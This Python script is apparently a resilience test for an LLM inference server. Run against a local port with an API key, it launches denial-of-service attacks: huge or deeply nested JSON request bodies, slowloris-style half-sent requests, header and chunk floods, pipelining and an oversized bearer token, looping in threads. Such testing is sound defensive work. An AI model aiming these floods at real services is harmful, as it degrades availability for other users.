"""Attacks of one client with a key that try to delay all others. Each runs until its process is terminated.

python -P attacks.py NAME PORT KEY
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time
from collections.abc import Callable

MIB = 1024 * 1024
CLIENTS = 4
"""Connections at once that send requests."""


def _post(key: str, path: str, body: bytes, *headers: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: a", f"Authorization: Bearer {key}", "Content-Type: application/json"]
    framing = () if headers else (f"Content-Length: {len(body)}",)
    return "\r\n".join([*lines, *framing, *headers, "", ""]).encode() + body


def _many(form: bytes, value: bytes, size: int = 8 * MIB - 1024) -> bytes:
    return form % (value * (size // len(value)))


def _bodies() -> dict[str, tuple[str, bytes]]:
    chat, completions = "/v1/chat/completions", "/v1/completions"
    return {
        "objects": (chat, _many(b'{"model":"tiny","messages":[%s{}]}', b"{},")),
        "lists": (chat, _many(b'{"model":"tiny","messages":[%s[]]}', b"[],")),
        "strings": (chat, _many(b'{"model":"tiny","messages":[%s""]}', b'"",')),
        "numbers": (completions, _many(b'{"model":"tiny","prompt":[%s1]}', b"1,")),
        "as many objects as allowed": (chat, _many(b'{"model":"tiny","messages":[{"a":[%s{}]}]}', b"{},", 16_000 * 3)),
        "as many numbers as allowed": (completions, _many(b'{"model":"tiny","prompt":[%s1]}', b"12345,", 149_000 * 6)),
        "nested": (chat, _many(b'{"model":"tiny","messages":%s', b"[")),
        "escapes": (completions, _many(b'{"model":"tiny","prompt":"%s"}', b'\\"[{,')),
        "long text": (completions, _many(b'{"model":"tiny","prompt":"%s"}', b"fox ")),
        "too many prompts": (completions, _many(b'{"model":"tiny","prompt":[%s"a"]}', b'"a",', 60_000)),
        "many messages": (
            chat,
            _many(b'{"model":"tiny","messages":[%s{}]}', b'{"role":"user","content":"a"},', 90_000),
        ),
        "patterns": (
            chat,
            b'{"model":"tiny","messages":[{"role":"user","content":"a"}],"response_format":{"type":"json_schema","json_schema":{"name":"a","schema":'
            b'{"type":"string","pattern":"^.{0,5000}$"}}}}',
        ),
        "broken JSON": (completions, b'{"model":"tiny","prompt":"' + b"a" * 8_000_000),
        "no form": (chat, b'{"model":"tiny","messages":' + b" " * 8_000_000 + b"5}"),
    }


def _connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=5)


def _exchange(port: int, data: bytes) -> None:
    """Sends it on a connection of its own and takes what comes."""
    with contextlib.suppress(OSError), _connect(port) as connection:
        connection.sendall(data)
        connection.recv(65_536)


def _hold(port: int, data: bytes, count: int) -> None:
    """Opens so many connections, and another for each that is closed."""
    held: list[socket.socket] = []
    while True:
        for each in held[:]:
            with contextlib.suppress(BlockingIOError, OSError):
                if each.recv(65_536):
                    continue
            if each.fileno() == -1:
                held.remove(each)
        while len(held) < count:
            with contextlib.suppress(OSError):
                connection = _connect(port)
                connection.sendall(data)
                connection.setblocking(False)
                held.append(connection)
        time.sleep(0.05)


def _flood(port: int, data: bytes, more: bytes) -> None:
    """Sends the first and then the second for as long as the server takes it."""
    with contextlib.suppress(OSError), _connect(port) as connection:
        connection.sendall(data)
        while True:
            connection.sendall(more)


def _streams(key: str) -> dict[str, Callable[[int], None]]:
    """Attacks on a connection."""
    chunked = _post(key, "/v1/completions", b"", "Transfer-Encoding: chunked")
    get = b"GET /health HTTP/1.1\r\nHost: a\r\n"
    unfinished = _post(key, "/tokenize", b" " * 2 * MIB, "Content-Length: 8000000")
    slow = _post(key, "/v1/completions", b" " * 60_000, "Content-Length: 8000000")
    return {
        "endless header": lambda port: _flood(port, get + b"X: ", b"a" * MIB),
        "endless headers": lambda port: _flood(port, get, b"X: a\r\n" * 100_000),
        "small chunks": lambda port: _flood(port, chunked, b"1\r\na\r\n" * 100_000),
        "chunk extensions": lambda port: _flood(port, chunked + b"1;", b"a" * MIB),
        "trailers": lambda port: _flood(port, chunked + b"0\r\n", b"X: a\r\n" * 100_000),
        "pipelined": lambda port: _flood(port, b"", (get + b"\r\n") * 10_000),
        "half heads": lambda port: _hold(port, get, 500),
        "unfinished bodies": lambda port: _hold(port, unfinished, 200),
        "slow bodies": lambda port: _hold(port, slow, 400),
        "huge key": lambda port: _exchange(
            port, get.replace(b"/health", b"/v1/models") + b"Authorization: Bearer " + b"A" * 60_000 + b"\r\n\r\n"
        ),
    }


NAMES = (*_bodies(), *_streams(""))


def main(name: str, port: int, key: str) -> None:
    bodies = _bodies()
    if name in bodies:
        path, body = bodies[name]
        data = _post(key, path, body)

        def once(port: int) -> None:
            _exchange(port, data)

    else:
        once = _streams(key)[name]

    def again() -> None:
        while True:
            once(port)

    for _ in range(CLIENTS - 1):
        threading.Thread(target=again, daemon=True).start()
    again()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
